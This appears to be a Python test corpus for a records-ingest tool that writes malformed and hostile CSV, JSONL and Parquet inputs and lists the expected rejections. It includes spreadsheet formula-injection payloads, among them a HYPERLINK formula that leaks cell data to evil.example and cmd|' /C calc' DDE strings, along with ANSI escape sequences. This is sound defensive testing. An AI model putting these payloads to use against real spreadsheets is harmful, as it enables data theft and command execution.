"""The bad-input corpus (issue 8): hostile files written by the tests, with expected outcomes.

Each case is a name, a function that writes its file(s) into an empty input
directory and returns the `credence` command(s) to run on them, and the
outcome the issue's specification asks for (not what credence does today):

- `exit`: the allowed exit codes of every command: 0 is "accepted, with some
  rows perhaps rejected", 2 is "refused as a user error". Where the issue
  leaves the choice to the implementation ("read or refused clearly"), both
  are allowed.
- `rejects`: when the command exits 0, the fields the rejects file must name
  (`a|b` means either; `attributes` also matches `attributes.amount`); `()`
  means there must be no rejects file; None means not checked.
- `held`: when the command exits 0, how many new records the registry must
  hold afterwards (the hostile rows never; the good rows beside them once).
- `message`: when refused, one of these `|`-separated words must be in the
  output (case-insensitive).
- `forbid`: strings that must not appear in any output.

Every case also gets the corpus-wide checks of test_corpus.py: no traceback,
no planted identifier or secret in any output, `credence verify` passing
afterwards, no stray temporary file beside the input, formula prefixes
neutralised in the rejects file, a bounded amount of output, nothing written
when refused, and no process left behind.

Rows carry a planted resident ID (`PLANT_RIC`) and a planted attribute value
(`PLANT_CASE`), so that a message echoing a row is caught as a leak.
"""

from __future__ import annotations

import csv
import datetime as dt
import gzip
import io
import json
import os
import random
from collections.abc import Callable
from dataclasses import dataclass, field
from decimal import Decimal
from importlib import resources
from pathlib import Path
from typing import Any

from credence.core.ids import make_ric, parse_subject
from credence.core.records import RECORD_FIELDS

SOURCE = "court"
SOURCE_ITEMS = "judicial.*"
ITEM = "judicial.defaulter-listed"
# A valid resident ID (Beijing Chaoyang, born 1985-03-15) and a valid case number: they must
# never appear in a message, only in the rows themselves and their rejects file.
PLANT_RIC = "ric:" + make_ric("11010519850315777")
PLANT_CASE = "(2024)京0105执77817号"
parse_subject(PLANT_RIC)

MiB = 1024 * 1024


@dataclass(frozen=True)
class Ctx:
    """Where a case writes: its input directory, the registry's data directory, a scratch dir."""

    inputs: Path
    data: Path
    scratch: Path


@dataclass
class Plan:
    """What a case runs: commands (`credence` arguments), in order or all at once."""

    commands: list[list[str]]
    inputs: list[Path] = field(default_factory=list)  # files whose rejects file is checked
    parallel: bool = False
    env: dict[str, str] = field(default_factory=dict)
    timeout: float = 30.0
    check: Callable[[], list[str]] | None = None  # more problems found after the run


@dataclass(frozen=True)
class Case:
    name: str
    write: Callable[[Ctx], Plan]
    exit: tuple[int, ...]
    rejects: tuple[str, ...] | None = None
    held: int | None = None
    message: str | None = None
    forbid: tuple[str, ...] = ()
    kind: str = "ingest"  # ingest, yaml, explain, file, control
    smoke: bool = False
    root_skip: bool = False  # meaningless as root (file permissions do not bind root)
    note: str = ""

    @property
    def expected(self) -> str:
        codes = "/".join(str(c) for c in self.exit)
        extra = []
        if self.held is not None:
            extra.append(f"held {self.held}")
        if self.rejects:
            extra.append("rejects " + ",".join(self.rejects))
        elif self.rejects == ():
            extra.append("no rejects")
        return codes + (f" ({'; '.join(extra)})" if extra else "")


CASES: list[Case] = []


def case(
    name: str,
    exit: int | tuple[int, ...],
    **kw: Any,
) -> Callable[[Callable[[Ctx], Plan]], Callable[[Ctx], Plan]]:
    def register(fn: Callable[[Ctx], Plan]) -> Callable[[Ctx], Plan]:
        codes = exit if isinstance(exit, tuple) else (exit,)
        CASES.append(Case(name, fn, codes, note=kw.pop("note", fn.__doc__ or ""), **kw))
        return fn

    return register


# --- rows and writers ---------------------------------------------------------------------


ASCII_ATTRS = {"case_number": "2024-77817", "amount": 1}


def good(n: int = 1, **over: Any) -> dict[str, Any]:
    """A valid row about the planted subject."""
    row: dict[str, Any] = {
        "item": ITEM,
        "subject": PLANT_RIC,
        "occurred_on": "2024-03-01",
        "reference": f"GOOD-{n}",
        "decided_on": "2024-03-05",
        "attributes": {"case_number": PLANT_CASE, "amount": 12000},
    }
    row.update(over)
    return row


def bad(**over: Any) -> dict[str, Any]:
    """A row that is valid except for `over` (reference BAD-1 unless overridden)."""
    return good(reference="BAD-1") | over


def csv_text(rows: list[dict[str, Any]], columns: tuple[str, ...] = RECORD_FIELDS) -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(columns)
    for r in rows:
        writer.writerow([_cell(r.get(c)) for c in columns])
    return out.getvalue()


def _cell(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, (dict, list)):
        return json.dumps(value, ensure_ascii=False)
    return str(value)


def jsonl_text(rows: list[dict[str, Any] | str]) -> str:
    """JSON Lines; a str item is written as the raw line it is."""
    return "".join(
        (r if isinstance(r, str) else json.dumps(r, ensure_ascii=False)) + "\n" for r in rows
    )


def ingest(path: Path, *more: str) -> list[str]:
    return ["ingest", str(path), "--source", SOURCE, *more]


def ingest_plan(path: Path, *more: str, timeout: float = 30.0) -> Plan:
    return Plan([ingest(path, *more)], inputs=[path], timeout=timeout)


def write_csv(ctx: Ctx, rows: list[dict[str, Any]], name: str = "in.csv") -> Plan:
    path = ctx.inputs / name
    path.write_text(csv_text(rows), encoding="utf-8", newline="")
    return ingest_plan(path)


def write_jsonl(ctx: Ctx, rows: list[dict[str, Any] | str], name: str = "in.jsonl") -> Plan:
    path = ctx.inputs / name
    path.write_text(jsonl_text(rows), encoding="utf-8", newline="")
    return ingest_plan(path)


def write_bytes(ctx: Ctx, name: str, data: bytes) -> Plan:
    path = ctx.inputs / name
    path.write_bytes(data)
    return ingest_plan(path)


def write_table(ctx: Ctx, columns: dict[str, Any], name: str = "in.parquet") -> Plan:
    import pyarrow as pa
    import pyarrow.parquet as pq

    path = ctx.inputs / name
    pq.write_table(pa.table(columns), path)
    return ingest_plan(path)


def attrs_json(**over: Any) -> str:
    return json.dumps({"case_number": PLANT_CASE, "amount": 12000} | over, ensure_ascii=False)


def good_columns(n: int = 1) -> dict[str, Any]:
    """One good row as Parquet string columns."""
    row = good(n)
    row["attributes"] = attrs_json()
    return {k: [v] for k, v in row.items()}


# --- CSV and JSONL: encodings -------------------------------------------------------------


@case("csv-latin1", (0, 2), held=1, kind="ingest")
def _csv_latin1(ctx: Ctx) -> Plan:
    """Latin-1 bytes without --encoding: not UTF-8; refused clearly, or the row rejected."""
    text = csv_text([good(attributes=ASCII_ATTRS), bad(reference="BAD-é", attributes=ASCII_ATTRS)])
    return write_bytes(ctx, "in.csv", text.encode("latin-1"))


@case("csv-latin1-with-encoding", 0, held=1, rejects=("reference",))
def _csv_latin1_declared(ctx: Ctx) -> Plan:
    """Latin-1 declared with --encoding latin-1: read; the non-ASCII reference is rejected."""
    path = ctx.inputs / "in.csv"
    path.write_bytes(
        csv_text(
            [good(attributes=ASCII_ATTRS), bad(reference="BAD-é", attributes=ASCII_ATTRS)]
        ).encode("latin-1")
    )
    return Plan([ingest(path, "--encoding", "latin-1")], inputs=[path])


@case("csv-utf16le-bom", (0, 2), held=1)
def _csv_utf16le(ctx: Ctx) -> Plan:
    """UTF-16 LE with a BOM: read as UTF-16 or refused clearly (never a traceback)."""
    return write_bytes(ctx, "in.csv", b"\xff\xfe" + csv_text([good()]).encode("utf-16-le"))


@case("csv-utf16be-bom", (0, 2), held=1)
def _csv_utf16be(ctx: Ctx) -> Plan:
    """UTF-16 BE with a BOM: read as UTF-16 or refused clearly."""
    return write_bytes(ctx, "in.csv", b"\xfe\xff" + csv_text([good()]).encode("utf-16-be"))


@case("csv-utf8-bom", 0, held=1, rejects=())
def _csv_utf8_bom(ctx: Ctx) -> Plan:
    """UTF-8 with a BOM is UTF-8: accepted."""
    return write_bytes(ctx, "in.csv", b"\xef\xbb\xbf" + csv_text([good()]).encode())


@case("csv-invalid-utf8-mid-file", (0, 2), held=2)
def _csv_bad_utf8(ctx: Ctx) -> Plan:
    """Invalid UTF-8 bytes in the middle row: that row rejected, or the file refused."""
    data = csv_text([good(1), bad(reference="BAD-@@"), good(2)]).encode()
    return write_bytes(ctx, "in.csv", data.replace(b"BAD-@@", b"BAD-\xff\xfe\xc3("))


@case("jsonl-latin1", (0, 2), held=1)
def _jsonl_latin1(ctx: Ctx) -> Plan:
    """Latin-1 JSON Lines without --encoding: the line rejected, or the file refused."""
    text = jsonl_text(
        [good(attributes=ASCII_ATTRS), bad(reference="BAD-é", attributes=ASCII_ATTRS)]
    )
    return write_bytes(ctx, "in.jsonl", text.encode("latin-1"))


@case("jsonl-utf16le-bom", (0, 2), held=1)
def _jsonl_utf16(ctx: Ctx) -> Plan:
    """UTF-16 LE JSON Lines with a BOM: read as UTF-16 or refused clearly."""
    return write_bytes(ctx, "in.jsonl", b"\xff\xfe" + jsonl_text([good()]).encode("utf-16-le"))


@case("jsonl-utf8-bom", 0, held=1, rejects=())
def _jsonl_utf8_bom(ctx: Ctx) -> Plan:
    """UTF-8 with a BOM is UTF-8: the first line is accepted, not a JSON error."""
    return write_bytes(ctx, "in.jsonl", b"\xef\xbb\xbf" + jsonl_text([good()]).encode())


@case("jsonl-invalid-utf8-mid-file", (0, 2), held=2)
def _jsonl_bad_utf8(ctx: Ctx) -> Plan:
    """Invalid UTF-8 in the middle line: that line rejected, or the file refused."""
    data = jsonl_text([good(1), bad(reference="BAD-@@"), good(2)]).encode()
    return write_bytes(ctx, "in.jsonl", data.replace(b"BAD-@@", b"BAD-\x80\xbf\xed\xa0\x80"))


@case("csv-gzip", (0, 2), held=1)
def _csv_gzip(ctx: Ctx) -> Plan:
    """A gzip-compressed CSV named .csv.gz: read or refused clearly."""
    return write_bytes(ctx, "in.csv.gz", gzip.compress(csv_text([good()]).encode()))


@case("jsonl-gzip", (0, 2), held=1)
def _jsonl_gzip(ctx: Ctx) -> Plan:
    """A gzip-compressed JSON Lines file named .jsonl.gz: read or refused clearly."""
    return write_bytes(ctx, "in.jsonl.gz", gzip.compress(jsonl_text([good()]).encode()))


@case("csv-gzip-named-csv", (0, 2), held=1)
def _csv_gzip_misnamed(ctx: Ctx) -> Plan:
    """gzip bytes named .csv (binary in a text format): read or refused clearly."""
    return write_bytes(ctx, "in.csv", gzip.compress(csv_text([good()]).encode()))


# --- CSV and JSONL: shape -----------------------------------------------------------------


@case("csv-empty-file", 2, message="column|empty")
def _csv_empty(ctx: Ctx) -> Plan:
    """A zero-byte CSV has no header: refused."""
    return write_bytes(ctx, "in.csv", b"")


@case("jsonl-empty-file", (0, 2), held=0)
def _jsonl_empty(ctx: Ctx) -> Plan:
    """A zero-byte JSON Lines file: nothing to ingest (0 rows) or refused as empty."""
    return write_bytes(ctx, "in.jsonl", b"")


@case("csv-header-only", 0, held=0, rejects=())
def _csv_header_only(ctx: Ctx) -> Plan:
    """Header and no rows: 0 rows, nothing rejected."""
    return write_csv(ctx, [])


@case("csv-duplicate-header", 2, message="duplicate|twice|more than once")
def _csv_dup_header(ctx: Ctx) -> Plan:
    """Two `subject` columns: which one is the subject? Refused, not last-one-wins."""
    path = ctx.inputs / "in.csv"
    row = good()
    cols = (*RECORD_FIELDS, "subject")
    values = [_cell(row.get(c)) for c in RECORD_FIELDS] + ["ric:11010519491231002X"]
    out = io.StringIO()
    csv.writer(out).writerows([cols, values])
    path.write_text(out.getvalue())
    return ingest_plan(path)


@case("csv-extra-column", 2, message="column")
def _csv_extra(ctx: Ctx) -> Plan:
    """An uncatalogued column (`name`): the whole file refused before anything is written."""
    path = ctx.inputs / "in.csv"
    path.write_text(csv_text([good() | {"name": "张三"}], (*RECORD_FIELDS, "name")))
    return ingest_plan(path)


@case("csv-missing-column", 2, message="column")
def _csv_missing(ctx: Ctx) -> Plan:
    """No `occurred_on` column: refused."""
    path = ctx.inputs / "in.csv"
    path.write_text(csv_text([good()], ("item", "subject", "reference", "attributes")))
    return ingest_plan(path)


@case("csv-headerless", 2, message="column")
def _csv_headerless(ctx: Ctx) -> Plan:
    """No header: the first data row (with a resident ID) read as one; refused, ID not echoed."""
    text = csv_text([good(1), good(2)])
    return write_bytes(ctx, "in.csv", text.split("\r\n", 1)[1].encode())


@case("csv-identifier-as-column-name", 2, message="column")
def _csv_id_column(ctx: Ctx) -> Plan:
    """A resident ID as an extra column's name: refused without echoing the identifier."""
    path = ctx.inputs / "in.csv"
    path.write_text(csv_text([good()], (*RECORD_FIELDS, PLANT_RIC)))
    return ingest_plan(path)


@case("csv-1m-columns", 2, message="column")
def _csv_wide(ctx: Ctx) -> Plan:
    """A header of 1,000,000 columns (2 MB): refused by CREDENCE_MAX_COLUMNS, briefly."""
    path = ctx.inputs / "in.csv"
    with path.open("w") as fh:
        fh.write(",".join(RECORD_FIELDS))
        for _ in range(100):
            fh.write(",x" * 10_000)
        fh.write("\r\n")
        fh.write(csv_text([good()]).split("\r\n", 1)[1])
    return ingest_plan(path)


@case("csv-cell-over-131kb", (0, 2), held=1)
def _csv_big_cell(ctx: Ctx) -> Plan:
    """A 140,000-byte reference (over CREDENCE_MAX_CELL_BYTES): row rejected or file refused."""
    return write_csv(ctx, [good(), bad(reference="R" * 140_000)])


@case("csv-line-over-1mib", (0, 2), held=1)
def _csv_long_line(ctx: Ctx) -> Plan:
    """A 1.1 MiB line (over CREDENCE_MAX_LINE_BYTES): row rejected or file refused."""
    return write_csv(ctx, [good(), bad(attributes={"case_number": "9" * (MiB + MiB // 10)})])


@case("csv-nul-bytes", (0, 2), held=1)
def _csv_nul(ctx: Ctx) -> Plan:
    """NUL bytes inside a cell: row rejected or file refused."""
    data = csv_text([good(), bad(reference="BAD-@")]).encode().replace(b"BAD-@", b"BAD-\x00\x00")
    return write_bytes(ctx, "in.csv", data)


@case("csv-cr-only-newlines", 0, held=2, rejects=())
def _csv_cr(ctx: Ctx) -> Plan:
    """Old Mac line ends (CR only): two rows read as two rows."""
    return write_bytes(ctx, "in.csv", csv_text([good(1), good(2)]).replace("\r\n", "\r").encode())


@case("csv-ragged-rows", 0, held=1, rejects=("row",))
def _csv_ragged(ctx: Ctx) -> Plan:
    """A row with three extra fields: that row rejected."""
    text = csv_text([good(1)]) + "a,b,c,d,e,f,g,h,i,j\r\n"
    return write_bytes(ctx, "in.csv", text.encode())


@case("csv-unterminated-quote", (0, 2), held=1)
def _csv_open_quote(ctx: Ctx) -> Plan:
    """A quote opened and never closed on the last row: row rejected or file refused."""
    text = csv_text([good(1)]) + f'{ITEM},{PLANT_RIC},2024-03-01,"BAD-1,,,\r\n'
    return write_bytes(ctx, "in.csv", text.encode())


@case("csv-formula-cells", 0, held=1, smoke=True)
def _csv_formulas(ctx: Ctx) -> Plan:
    """=HYPERLINK, +, -, @, tab and CR-led cells in rejected rows: neutralised in rejects."""
    rows = [
        good(),
        bad(subject='=HYPERLINK("http://evil.example/?"&A1,"click")', reference="BAD-1"),
        bad(item="+cmd|' /C calc'!A0", reference="BAD-2"),
        bad(occurred_on="-2+3+cmd|' /C calc'!A0", reference="BAD-3"),
        bad(attributes="@SUM(1+1)*cmd|' /C calc'!A0", reference="BAD-4"),
        bad(reference="=1+1", subject="ric:1"),
        bad(item="\t=1+1", reference="BAD-6"),
        bad(item="\r=1+1", reference="BAD-7"),
        bad(corrects="@A1", reference="BAD-8", item="revocation", subject="-ric:1"),
    ]
    return write_csv(ctx, rows)


# --- JSONL: structure ---------------------------------------------------------------------


@case("jsonl-nested-100k-deep", (0, 2), held=1, smoke=True)
def _jsonl_deep(ctx: Ctx) -> Plan:
    """A line that is an array nested 100,000 deep: that line rejected (or the file refused)."""
    return write_jsonl(ctx, [good(), "[" * 100_000 + "]" * 100_000])


@case("jsonl-attributes-nested-100k-deep", (0, 2), held=1)
def _jsonl_deep_attrs(ctx: Ctx) -> Plan:
    """attributes.amount nested 100,000 deep: that line rejected (or the file refused)."""
    deep = "[" * 100_000 + "]" * 100_000
    line = json.dumps(bad()).replace('"amount": 12000', f'"amount": {deep}')
    return write_jsonl(ctx, [good(), line])


@case("jsonl-top-level-array", 0, held=1, rejects=("row",))
def _jsonl_array(ctx: Ctx) -> Plan:
    """A line that is a JSON array: rejected."""
    return write_jsonl(ctx, [good(), json.dumps([PLANT_RIC, 1])])


@case("jsonl-top-level-number", 0, held=1, rejects=("row",))
def _jsonl_number(ctx: Ctx) -> Plan:
    """A line that is a number: rejected."""
    return write_jsonl(ctx, [good(), "42"])


@case("jsonl-top-level-string", 0, held=1, rejects=("row",))
def _jsonl_string(ctx: Ctx) -> Plan:
    """A line that is a string: rejected."""
    return write_jsonl(ctx, [good(), json.dumps(PLANT_RIC)])


@case("jsonl-top-level-null-true", 0, held=1, rejects=("row",))
def _jsonl_null(ctx: Ctx) -> Plan:
    """Lines that are null and true: rejected."""
    return write_jsonl(ctx, [good(), "null", "true"])


@case("jsonl-10mb-attribute", (0, 2), held=1)
def _jsonl_10mb(ctx: Ctx) -> Plan:
    """A 10 MB attribute value (over the line and cell limits): line rejected or file refused."""
    return write_jsonl(ctx, [good(), bad(attributes={"case_number": "7" * (10 * MiB)})])


@case("jsonl-nul-bytes", (0, 2), held=1)
def _jsonl_nul(ctx: Ctx) -> Plan:
    """A raw NUL byte in one line and an escaped one in a reference: both lines rejected."""
    raw = json.dumps(bad(reference="BAD-1")).replace('"BAD-1"', '"BAD-1"\x00')
    return write_jsonl(ctx, [good(), raw, bad(reference="BAD-2\x00")])


@case("jsonl-cr-only-newlines", 0, held=2, rejects=())
def _jsonl_cr(ctx: Ctx) -> Plan:
    """CR-only line ends: two lines read as two records."""
    text = jsonl_text([good(1), good(2)]).replace("\n", "\r")
    return write_bytes(ctx, "in.jsonl", text.encode())


@case("jsonl-duplicate-keys", 0, held=1, rejects=("row|reference|subject",))
def _jsonl_dup_keys(ctx: Ctx) -> Plan:
    """One object with two `subject` keys: ambiguous, rejected rather than last-one-wins."""
    line = json.dumps(bad()).replace(
        '"subject": ', '"subject": "ric:11010519491231002X", "subject": '
    )
    return write_jsonl(ctx, [good(), line])


@case("jsonl-unknown-key", 0, held=1, rejects=("row",))
def _jsonl_unknown(ctx: Ctx) -> Plan:
    """An uncatalogued key (`religion`) on one line: that line rejected, the others ingested."""
    return write_jsonl(ctx, [good(), bad(religion="x")])


@case("jsonl-missing-field", 0, held=1, rejects=("occurred_on",))
def _jsonl_missing(ctx: Ctx) -> Plan:
    """A line without occurred_on: rejected naming the field."""
    row = bad()
    del row["occurred_on"]
    return write_jsonl(ctx, [good(), row])


@case("jsonl-subject-is-object", 0, held=1, rejects=("subject",))
def _jsonl_subject_obj(ctx: Ctx) -> Plan:
    """subject given as an object: rejected."""
    return write_jsonl(ctx, [good(), bad(subject={"ric": PLANT_RIC[4:]})])


@case("jsonl-lone-surrogate", 0, held=1, rejects=("reference|row",))
def _jsonl_surrogate(ctx: Ctx) -> Plan:
    """A reference with a lone UTF-16 surrogate (\\ud800): rejected, the rejects file written."""
    line = json.dumps(bad()).replace('"BAD-1"', '"BAD-\\ud800"')
    return write_jsonl(ctx, [good(), line])


@case("jsonl-bidi-override", 0, held=1, rejects=("reference",))
def _jsonl_bidi(ctx: Ctx) -> Plan:
    """A reference with a right-to-left override (U+202E): rejected."""
    return write_jsonl(ctx, [good(), bad(reference="BAD-\u202e1-DAB")])


# --- identifiers and references -----------------------------------------------------------


def _digits(table: str) -> Callable[[Ctx], Plan]:
    def write(ctx: Ctx) -> Plan:
        body = PLANT_RIC[4:]
        foreign = body.translate({ord(str(d)): table[d] for d in range(10)})
        return write_jsonl(ctx, [good(), bad(subject="ric:" + foreign)])

    return write


for _name, _table in (
    ("arabic-indic", "٠١٢٣٤٥٦٧٨٩"),
    ("fullwidth", "０１２３４５６７８９"),
    ("thai", "๐๑๒๓๔๕๖๗๘๙"),
    ("devanagari", "०१२३४५६७८९"),
):
    CASES.append(
        Case(
            f"ric-{_name}-digits",
            _digits(_table),
            (0,),
            rejects=("subject",),
            held=1,
            smoke=_name == "arabic-indic",
            note=f"A resident ID written in {_name} digits: identifiers are ASCII only, rejected.",
        )
    )


@case("uscc-fullwidth", 0, held=1, rejects=("subject",))
def _uscc_fullwidth(ctx: Ctx) -> Plan:
    """An organisation code in full-width characters: rejected (ASCII only)."""
    full = "９１１１００００６０００３７３４１Ｌ"
    return write_jsonl(ctx, [good(), bad(subject="uscc:" + full)])


@case("subject-161-chars", 0, held=1, rejects=("subject",))
def _subject_161(ctx: Ctx) -> Plan:
    """A 161-character subject (32-char scheme, 128-char id): over the 160-character maximum."""
    subject = "a" * 32 + ":" + "B" * 128
    assert len(subject) == 161
    return write_jsonl(ctx, [good(), bad(item="judicial.defaulter-listed", subject=subject)])


@case("subject-unicode-other-scheme", 0, held=1, rejects=("subject",))
def _subject_unicode(ctx: Ctx) -> Plan:
    """An other-scheme identifier with full-width letters: rejected."""
    return write_jsonl(ctx, [good(), bad(subject="social-org:ＡＢＣ123")])


@case("reference-very-long", 0, held=1, rejects=("reference",))
def _ref_long(ctx: Ctx) -> Plan:
    """A 100,000-character reference: rejected."""
    return write_jsonl(ctx, [good(), bad(reference="R" * 100_000)])


@case("reference-129-chars", 0, held=1, rejects=("reference",))
def _ref_129(ctx: Ctx) -> Plan:
    """A 129-character reference, one over the maximum: rejected."""
    return write_jsonl(ctx, [good(), bad(reference="R" * 129)])


@case("reference-control-chars", 0, held=1, rejects=("reference",))
def _ref_ctrl(ctx: Ctx) -> Plan:
    """A reference with BEL and an ANSI clear-screen sequence: rejected."""
    return write_jsonl(ctx, [good(), bad(reference="BAD-\x07\x1b[2J-1")])


@case("corrects-control-chars", 0, held=1, rejects=("corrects",))
def _corrects_ctrl(ctx: Ctx) -> Plan:
    """A correction naming a reference with control characters: rejected."""
    return write_jsonl(ctx, [good(), bad(corrects="GOOD-1\x1b[0m\x08")])


# --- dates --------------------------------------------------------------------------------


def _date_case(name: str, field_name: str, value: Any, note: str, smoke: bool = False) -> None:
    def write(ctx: Ctx) -> Plan:
        row = bad(**{field_name: value})
        return write_jsonl(ctx, [good(), row])

    CASES.append(Case(name, write, (0,), rejects=(field_name,), held=1, note=note, smoke=smoke))


_date_case("date-0001-01-01", "occurred_on", "0001-01-01", "Year 1: before 1949-10-01, rejected.")
_date_case("date-1800-01-01", "occurred_on", "1800-01-01", "1800: before 1949-10-01, rejected.")
_date_case("date-1949-09-30", "occurred_on", "1949-09-30", "The day before 1949-10-01: rejected.")
_date_case("date-9999-12-31", "occurred_on", "9999-12-31", "Far future: rejected.")
_date_case("date-2024-02-30", "occurred_on", "2024-02-30", "No such day: rejected.")
_date_case("date-non-iso", "occurred_on", "01/03/2024", "Not YYYY-MM-DD: rejected.")
_date_case("date-5-digit-year", "occurred_on", "12024-01-01", "A 5-digit year: rejected.")
_date_case("date-iso-week", "occurred_on", "2024-W09-5", "An ISO week date: rejected.")
_date_case("date-with-time", "occurred_on", "2024-03-01T00:00:00", "A timestamp, not a date.")
_date_case("date-arabic-indic", "occurred_on", "٢٠٢٤-٠٣-٠١", "Non-ASCII digits: rejected.")
_date_case("date-as-number", "occurred_on", 20240301, "A JSON number, not a date: rejected.")
_date_case("decided-on-0001-01-01", "decided_on", "0001-01-01", "decided_on year 1: rejected.")


@case("date-1949-10-01-boundary", 0, held=2, rejects=())
def _date_boundary(ctx: Ctx) -> Plan:
    """1949-10-01 itself is the first allowed date: accepted (the boundary is not off by one)."""
    return write_jsonl(ctx, [good(1), good(2, occurred_on="1949-10-01", decided_on="1949-10-01")])


# --- attributes ---------------------------------------------------------------------------


def _attr_raw(
    name: str, raw: str, note: str, expect: str = "attributes", smoke: bool = False
) -> None:
    """A JSONL line whose attributes.amount is the raw JSON text `raw`."""

    def write(ctx: Ctx) -> Plan:
        line = json.dumps(bad()).replace('"amount": 12000', f'"amount": {raw}')
        return write_jsonl(ctx, [good(), line])

    CASES.append(Case(name, write, (0,), rejects=(expect,), held=1, note=note, smoke=smoke))


# The whole line is then not JSON: the row is rejected as such (field `row`).
_attr_raw("attr-nan", "NaN", "NaN is not a JSON number: rejected.", expect="attributes|row")
_attr_raw(
    "attr-infinity",
    "-Infinity",
    "Infinity is not a JSON number: rejected.",
    expect="attributes|row",
)
_attr_raw("attr-1e309", "1e309", "1e309 overflows to infinity: rejected.", expect="attributes|row")
_attr_raw("attr-huge-int", "1" + "0" * 30, "An integer beyond 2^53: rejected.")
_attr_raw(
    "attr-5000-digit-int",
    "9" * 5000,
    "A 5,000-digit integer (over Python's int-parsing limit): rejected.",
    expect="attributes|row",
)
_attr_raw("attr-amount-string-nan", '"NaN"', "The string 'NaN' for a number: rejected.")


@case("attr-csv-nan-infinity", 0, held=1, rejects=("attributes",))
def _attr_csv_nan(ctx: Ctx) -> Plan:
    """NaN, Infinity and 1e309 inside a CSV attributes cell: each row rejected."""
    rows = [good()] + [
        bad(reference=f"BAD-{i}", attributes=attrs_json().replace("12000", v))
        for i, v in enumerate(("NaN", "Infinity", "1e309", "9" * 400))
    ]
    return write_csv(ctx, rows)


@case("attr-not-object", 0, held=1, rejects=("attributes",))
def _attr_list(ctx: Ctx) -> Plan:
    """attributes as an array: rejected."""
    return write_jsonl(ctx, [good(), bad(attributes=[PLANT_CASE, 12000])])


@case("attr-not-json", 0, held=1, rejects=("attributes",))
def _attr_not_json(ctx: Ctx) -> Plan:
    """attributes cell that is not JSON: rejected."""
    return write_csv(ctx, [good(), bad(attributes="case_number=" + PLANT_CASE)])


@case("attr-undeclared-key", 0, held=1, rejects=("attributes",))
def _attr_undeclared(ctx: Ctx) -> Plan:
    """An undeclared attribute (`religion`): rejected naming it."""
    return write_jsonl(
        ctx, [good(), bad(attributes={"case_number": PLANT_CASE, "religion": "buddhist"})]
    )


@case("attr-deep-json-in-csv", 0, held=1, rejects=("attributes|row",))
def _attr_deep_csv(ctx: Ctx) -> Plan:
    """A CSV attributes cell nested 50,000 deep (100 KB, under the cell limit): rejected."""
    return write_csv(ctx, [good(), bad(attributes="[" * 50_000 + "]" * 50_000)])


@case("attr-50k-keys", 0, held=1, rejects=("attributes",))
def _attr_many_keys(ctx: Ctx) -> Plan:
    """attributes with 50,000 undeclared keys (a 0.8 MB line): rejected, quickly."""
    attrs = {f"k{i}": i for i in range(50_000)} | {"case_number": PLANT_CASE}
    return write_jsonl(ctx, [good(), bad(attributes=attrs)])


# --- Parquet ------------------------------------------------------------------------------


@case("parquet-zero-byte", 2)
def _pq_empty(ctx: Ctx) -> Plan:
    """A zero-byte .parquet: refused."""
    return write_bytes(ctx, "in.parquet", b"")


@case("parquet-truncated", 2)
def _pq_truncated(ctx: Ctx) -> Plan:
    """A Parquet file cut in half: refused."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    buf = io.BytesIO()
    pq.write_table(pa.table(good_columns()), buf)
    data = buf.getvalue()
    return write_bytes(ctx, "in.parquet", data[: len(data) // 2])


@case("parquet-truncated-footer", 2)
def _pq_footer(ctx: Ctx) -> Plan:
    """A Parquet file missing its last 5 bytes (footer length and magic): refused."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    buf = io.BytesIO()
    pq.write_table(pa.table(good_columns()), buf)
    return write_bytes(ctx, "in.parquet", buf.getvalue()[:-5])


@case("parquet-random-bytes", 2)
def _pq_random(ctx: Ctx) -> Plan:
    """64 KB of random bytes named .parquet: refused."""
    return write_bytes(ctx, "in.parquet", random.Random(8).randbytes(65536))


@case("parquet-magic-then-garbage", 2)
def _pq_magic(ctx: Ctx) -> Plan:
    """PAR1 magic at both ends around garbage, with a footer length pointing outside: refused."""
    body = random.Random(9).randbytes(4096)
    return write_bytes(
        ctx, "in.parquet", b"PAR1" + body + (2**31 - 1).to_bytes(4, "little") + b"PAR1"
    )


@case("parquet-decimal-reference", (0, 2), held=0, rejects=("reference",))
def _pq_decimal(ctx: Ctx) -> Plan:
    """A decimal-typed reference column: a reference is text; row rejected or file refused."""
    import pyarrow as pa

    cols = good_columns()
    cols["reference"] = pa.array([Decimal("17.50")], pa.decimal128(10, 2))
    return write_table(ctx, cols)


@case("parquet-decimal-attribute", (0, 2))
def _pq_decimal_attr(ctx: Ctx) -> Plan:
    """attributes as a struct with a decimal amount: read as a number or rejected, cleanly."""
    import pyarrow as pa

    cols = good_columns()
    cols["attributes"] = pa.array(
        [{"case_number": PLANT_CASE, "amount": Decimal("12000.50")}],
        pa.struct([("case_number", pa.string()), ("amount", pa.decimal128(12, 2))]),
    )
    return write_table(ctx, cols)


@case("parquet-struct-subject", (0, 2), held=0, rejects=("subject",))
def _pq_struct(ctx: Ctx) -> Plan:
    """subject as a struct column: row rejected or file refused."""
    import pyarrow as pa

    cols = good_columns()
    cols["subject"] = pa.array([{"scheme": "ric", "id": PLANT_RIC[4:]}])
    return write_table(ctx, cols)


@case("parquet-struct-undeclared-attribute", (0, 2), held=0, rejects=("attributes",))
def _pq_struct_attrs(ctx: Ctx) -> Plan:
    """attributes as a struct carrying an undeclared field: row rejected or file refused."""
    import pyarrow as pa

    cols = good_columns()
    cols["attributes"] = pa.array([{"case_number": PLANT_CASE, "religion": "x"}])
    return write_table(ctx, cols)


@case("parquet-list-attributes", (0, 2), held=0, rejects=("attributes",))
def _pq_list(ctx: Ctx) -> Plan:
    """attributes as a list<int64> column: not an object; row rejected or file refused."""
    import pyarrow as pa

    cols = good_columns()
    cols["attributes"] = pa.array([[1, 2, 3]], pa.list_(pa.int64()))
    return write_table(ctx, cols)


@case("parquet-nan-reference", (0, 2), held=0, rejects=("reference",), smoke=True)
def _pq_nan(ctx: Ctx) -> Plan:
    """A float reference column holding NaN: never the reference 'nan'; rejected or refused."""
    import pyarrow as pa

    cols = good_columns()
    cols["reference"] = pa.array([float("nan")], pa.float64())
    return write_table(ctx, cols)


@case("parquet-int-reference", (0, 2))
def _pq_int(ctx: Ctx) -> Plan:
    """An int64 reference column: read as text, or rejected / refused, cleanly."""
    import pyarrow as pa

    cols = good_columns()
    cols["reference"] = pa.array([2**63 - 1], pa.int64())
    return write_table(ctx, cols)


@case("parquet-binary-subject", (0, 2), held=0, rejects=("subject",))
def _pq_binary(ctx: Ctx) -> Plan:
    """subject as a binary column: never b'ric:...' taken as an ID; rejected or refused."""
    import pyarrow as pa

